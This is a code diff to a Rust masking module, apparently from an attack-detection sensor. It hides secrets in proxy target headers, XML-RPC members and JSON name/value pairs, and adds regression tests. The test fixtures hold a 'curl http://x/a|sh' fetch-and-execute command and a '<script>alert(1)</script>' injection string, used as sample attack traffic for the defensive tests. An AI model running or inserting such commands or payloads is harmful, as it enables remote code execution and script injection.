@@ -83,12 +83,24 @@ const INFLATE_MAX_RATIO: usize = 100;
 const PLACEHOLDER_MAX_CODINGS: usize = 4;
 /// Longest coding name shown in that placeholder.
 const PLACEHOLDER_MAX_NAME: usize = 32;
+/// How far into a JSON object its `"name"`/`"key"` member is looked for.
+const PAIR_LOOKAHEAD: usize = 1024;
 /// Deepest JSON nesting tracked; deeper values are masked whatever their key.
 const JSON_MAX_DEPTH: usize = 128;
 
 /// Suffixes detection adds to a point's location for a layer it decoded
 /// from the value (`detect/point.rs`): the same secret, so the same point.
 const DECODED_SUFFIXES: &[&[u8]] = &[b":base64", b":qp", b":jwt.header", b":jwt.payload"];
+
+/// Headers a proxy fills with the client's original target (query
+/// included), masked like a `Referer` even when the value is a full URL.
+const TARGET_HEADERS: &[&[u8]] = &[
+    b"x-original-uri",
+    b"x-original-url",
+    b"x-rewrite-url",
+    b"x-forwarded-uri",
+    b"x-envoy-original-path",
+];
 
 /// Default parameter-name patterns (`*` matches anything), in normalised
 /// form: lowercase, without `-`, `_`, `.` and spaces.
@@ -776,7 +788,14 @@ impl Masker {
 
     /// A header's value and whether it was masked as a whole.
     fn header_value(&self, name: &[u8], value: &[u8], secrets: &mut Secrets) -> (Vec<u8>, bool) {
-        if name.eq_ignore_ascii_case(b"referer") && !self.header_masked(name) {
+        // `Referer`, and the original target a proxy passes on
+        // (`X-Original-URI`, `X-Original-URL`, `X-Rewrite-URL`,
+        // `X-Forwarded-Uri`, `X-Envoy-Original-Path`: review round 16): a
+        // URL or target whose query is masked like the request's own.
+        let carries_target = name.eq_ignore_ascii_case(b"referer")
+            || value.trim_ascii_start().first() == Some(&b'/')
+            || TARGET_HEADERS.iter().any(|h| name.eq_ignore_ascii_case(h));
+        if carries_target && !self.header_masked(name) {
             let mut out = Vec::with_capacity(value.len());
             self.uri_into(value, &mut out, secrets);
             return (out, false);
@@ -1040,11 +1059,19 @@ impl Masker {
         let body = body.get(..limit.min(body.len())).unwrap_or_default();
         // Depth inside the outermost masked element (0: not inside one).
         let mut masked_depth = 0usize;
+        // XML-RPC struct members (`<member><name>password</name><value>…`):
+        // inside a `<name>`, and whether the last one named a secret (review
+        // round 16).
+        let mut in_name = false;
+        let mut pending_value = false;
         let mut i = 0;
         while i < body.len() {
             let rest = body.get(i..).unwrap_or_default();
             let lt = memchr::memchr(b'<', rest).map_or(body.len(), |o| i + o);
             let text = body.get(i..lt).unwrap_or_default();
+            if in_name && masked_depth == 0 && self.param_masked(text.trim_ascii()) {
+                pending_value = true;
+            }
             if masked_depth > 0 && !text.trim_ascii().is_empty() {
                 self.mask_value(text, text, out, secrets);
             } else {
@@ -1071,6 +1098,14 @@ impl Masker {
             let tag = body.get(lt..gt).unwrap_or_default();
             i = gt;
             if tag.starts_with(b"</") {
+                in_name = false;
+                let closing = tag
+                    .get(2..tag.len().saturating_sub(1))
+                    .unwrap_or_default()
+                    .trim_ascii();
+                if xml_local_name(closing).eq_ignore_ascii_case(b"member") {
+                    pending_value = false;
+                }
                 masked_depth = masked_depth.saturating_sub(1);
                 out.extend_from_slice(tag);
                 continue;
@@ -1086,9 +1121,14 @@ impl Masker {
                 .map_or(tag.len(), |p| p + 1);
             let name = tag.get(1..name_end).unwrap_or_default();
             if !tag.ends_with(b"/>") {
+                let local = xml_local_name(name);
+                in_name = masked_depth == 0 && local.eq_ignore_ascii_case(b"name");
                 if masked_depth > 0 {
                     masked_depth += 1;
-                } else if !name.is_empty() && self.param_masked(xml_local_name(name)) {
+                } else if pending_value && local.eq_ignore_ascii_case(b"value") {
+                    masked_depth = 1;
+                    pending_value = false;
+                } else if !name.is_empty() && self.param_masked(local) {
                     masked_depth = 1;
                 }
             }
@@ -1295,6 +1335,9 @@ impl Masker {
             masked: bool,
             want_key: bool,
             key_masked: bool,
+            /// A `"name"`/`"key"` member of this object names a secret: its
+            /// `"value"` member is masked (review round 16).
+            pair: bool,
         }
         let mut stack: Vec<Level> = Vec::new();
         let mut overflow = 0usize;
@@ -1318,6 +1361,7 @@ impl Masker {
                             masked: value_masked,
                             want_key: b == b'{',
                             key_masked: false,
+                            pair: b == b'{' && !value_masked && self.pair_names_secret(body, i),
                         });
                     }
                     out.push(b);
@@ -1348,7 +1392,9 @@ impl Masker {
                     let close = end + usize::from(body.get(end) == Some(&b'"'));
                     let is_key = overflow == 0 && stack.last().is_some_and(|l| l.want_key);
                     if is_key {
-                        let masked = self.param_masked(content);
+                        let pair = stack.last().is_some_and(|l| l.pair);
+                        let masked = self.param_masked(content)
+                            || (pair && content.eq_ignore_ascii_case(b"value"));
                         if let Some(l) = stack.last_mut() {
                             l.want_key = false;
                             l.key_masked = masked;
@@ -1393,6 +1439,61 @@ impl Masker {
                 }
             }
         }
+    }
+
+    /// Whether the JSON object opening at `open` has a `"name"` or `"key"`
+    /// member (any case) whose string value is a masked parameter name
+    /// (`{"name":"DB_PASSWORD","value":"…"}`), looked for in its first
+    /// [`PAIR_LOOKAHEAD`] bytes, at its own level only.
+    fn pair_names_secret(&self, body: &[u8], open: usize) -> bool {
+        let end = open.saturating_add(PAIR_LOOKAHEAD).min(body.len());
+        let mut depth = 0usize;
+        let mut want_key = false;
+        let mut key: Option<&[u8]> = None;
+        let mut i = open;
+        while i < end {
+            let Some(&b) = body.get(i) else { break };
+            match b {
+                b'{' | b'[' => {
+                    depth += 1;
+                    want_key = depth == 1;
+                    i += 1;
+                }
+                b'}' | b']' => {
+                    depth = depth.saturating_sub(1);
+                    if depth == 0 {
+                        return false;
+                    }
+                    i += 1;
+                }
+                b',' => {
+                    if depth == 1 {
+                        want_key = true;
+                        key = None;
+                    }
+                    i += 1;
+                }
+                b'"' => {
+                    let e = json_string_end(body, i + 1);
+                    let content = body.get(i + 1..e).unwrap_or_default();
+                    if depth == 1 {
+                        if want_key {
+                            key = Some(content);
+                            want_key = false;
+                        } else if let Some(k) = key.take() {
+                            if (k.eq_ignore_ascii_case(b"name") || k.eq_ignore_ascii_case(b"key"))
+                                && self.param_masked(content)
+                            {
+                                return true;
+                            }
+                        }
+                    }
+                    i = e + 1;
+                }
+                _ => i += 1,
+            }
+        }
+        false
     }
 
     /// `text` with every remembered clear secret replaced by its mask
@@ -2742,5 +2843,85 @@ mod tests {
         for clear in ["keyword=shoes", "monkey=bananas", "grant_type=jwt-bearer"] {
             assert!(all.contains(clear), "{clear} masked: {all}");
         }
+    }
+
+    /// Review 16. Defect: only `Referer` has its query masked; every other
+    /// header gets only the userinfo of a `scheme://` URL. Proxies put the
+    /// client's original target, query included, in headers of the request
+    /// they forward: nginx `auth_request` (`X-Original-URI $request_uri`, the
+    /// documented setup), Traefik ForwardAuth (`X-Forwarded-Uri`), IIS ARR
+    /// and URL Rewrite (`X-Original-URL`, `X-Rewrite-URL`, which Symfony,
+    /// Laminas and Drupal read as the request target), Envoy
+    /// (`X-Envoy-Original-Path`). A sensor behind such a proxy (the
+    /// deployment `--trusted-proxy` exists for) stores
+    /// `?password=…&access_token=…` of every attack request in clear in the
+    /// record's headers; the sweep does not help when the subrequest's own
+    /// target (`/auth`) does not carry the secret. Severity: Medium.
+    #[test]
+    fn review16_original_target_headers_mask_query_secrets() {
+        let m = masker();
+        let target = "/login?user=bob&password=Hunter2Secret&access_token=ya29.A0ARrdaM-TokenValue";
+        let mut leaks = Vec::new();
+        for name in [
+            "X-Original-URI",
+            "X-Original-URL",
+            "X-Rewrite-URL",
+            "X-Forwarded-Uri",
+            "X-Envoy-Original-Path",
+        ] {
+            let mr = m.mask_request(&req(
+                "/auth?x=<script>alert(1)</script>",
+                &[(name, target)],
+                b"",
+            ));
+            let v = header(&mr, name);
+            if v.contains("Hunter2Secret") || v.contains("TokenValue") {
+                leaks.push(format!("{name}: {v}"));
+            }
+        }
+        assert!(leaks.is_empty(), "secrets in clear: {leaks:#?}");
+    }
+
+    /// Review 16. Defect: secrets sent as name/value pairs are stored in
+    /// clear: the masked name is the *value* of a `name`/`key` member (or
+    /// element) and the secret is its sibling `value`. Kubernetes' API
+    /// (`kubectl apply` of a Deployment: `"env":[{"name":"DB_PASSWORD",
+    /// "value":"…"}]`), AWS ECS task definitions (`environment`), Azure ARM
+    /// parameters, jQuery's `JSON.stringify($(form).serializeArray())`
+    /// (`[{"name":"password","value":"…"}]`) and XML-RPC structs
+    /// (`<member><name>password</name><value>…</value></member>`, Bugzilla's
+    /// `User.login`, Odoo; the module's own doc names XML-RPC) all send them
+    /// this way; an attack hit anywhere in the request (a `curl … | sh` in a
+    /// container command) stores the excerpt with the password.
+    /// Severity: Medium.
+    #[test]
+    fn review16_name_value_pair_secrets_are_masked() {
+        let m = masker();
+        let cases: [(&str, &[u8]); 3] = [
+            (
+                "application/json",
+                br#"{"spec":{"containers":[{"name":"app","command":["sh","-c","curl http://x/a|sh"],"env":[{"name":"DB_PASSWORD","value":"K8sDbPassw0rd!"}]}]}}"#,
+            ),
+            (
+                "application/json",
+                br#"[{"name":"username","value":"bob"},{"name":"password","value":"JqSerial1zePw"}]"#,
+            ),
+            (
+                "text/xml",
+                b"<?xml version=\"1.0\"?><methodCall><methodName>User.login</methodName><params><param><value><struct><member><name>login</name><value><string>bob</string></value></member><member><name>password</name><value><string>XmlRpcPassw0rd</string></value></member></struct></value></param></params></methodCall>",
+            ),
+        ];
+        let mut leaks = Vec::new();
+        for (ct, body) in cases {
+            let mr = m.mask_request(&req("/api", &[("Content-Type", ct)], body));
+            let e = s(&mr.body_excerpt);
+            if ["K8sDbPassw0rd", "JqSerial1zePw", "XmlRpcPassw0rd"]
+                .iter()
+                .any(|x| e.contains(x))
+            {
+                leaks.push(e);
+            }
+        }
+        assert!(leaks.is_empty(), "secrets in clear: {leaks:#?}");
     }
 }
